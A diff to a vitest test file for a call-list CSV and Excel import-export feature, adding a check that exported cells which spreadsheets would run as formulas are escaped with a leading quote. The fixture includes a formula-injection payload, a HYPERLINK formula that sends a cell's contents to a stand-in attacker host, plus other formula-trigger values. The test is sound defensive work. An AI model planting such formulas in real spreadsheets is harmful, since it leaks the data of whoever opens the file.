@@ -1,4 +1,5 @@
 import { Problem } from "@krisstod/contracts";
+import { parse as parseCsv } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createMunicipality, type Harness, startRoster } from "./harness.ts";
@@ -114,8 +115,12 @@ describe("call-list import and export", () => {
     expect(imported.status).toBe(200);
     // The earlier 5,000 were matched by phone where they reappear and are otherwise left off the lists.
     expect(await imported.json()).toMatchObject({ created: 0, updated: 7, removedFromLists: 4993 });
+    // Export writes phone numbers as "'+4670…" (a leading + is a formula to a spreadsheet) and
+    // import reads that back as the number, so the file round-trips.
+    const asExported = original.replaceAll(";+46", ";'+46");
     const back = Buffer.from(await exported("csv")).toString("utf8");
-    expect(back).toBe(original);
+    expect(back).toBe(asExported);
+    expect(await (await upload(back, "format=csv")).json()).toMatchObject({ created: 0, updated: 7 });
 
     const xlsx = await exported("xlsx");
     const workbook = new ExcelJS.Workbook();
@@ -132,7 +137,22 @@ describe("call-list import and export", () => {
       updated: 7,
       removedFromLists: 0,
     });
-    expect(Buffer.from(await exported("csv")).toString("utf8")).toBe(original);
+    expect(Buffer.from(await exported("csv")).toString("utf8")).toBe(asExported);
+  });
+
+  it("writes names that a spreadsheet would run as formulas as plain text in the CSV export", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")';
+    const file = csv([
+      `samordnare;"${formula.replaceAll('"', '""')}";+SUM(1);@Arbetsplats;-2+3;+46701000001;;;sv;;ja`,
+      person(2),
+    ]);
+    const imported = await upload(file, "format=csv");
+    expect(imported.status, await imported.clone().text()).toBe(200);
+    const rows: string[][] = parseCsv(Buffer.from(await exported("csv")), { bom: true, delimiter: ";" });
+    const row = rows.find((r) => r[1]?.includes("HYPERLINK"));
+    expect(row?.slice(1, 6)).toEqual([`'${formula}`, "'+SUM(1)", "'@Arbetsplats", "'-2+3", "'+46701000001"]);
+    // No cell of the whole file starts with a formula character.
+    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it("refuses a file that is not a call list with a 400 naming the body, and an unreadable workbook", async () => {
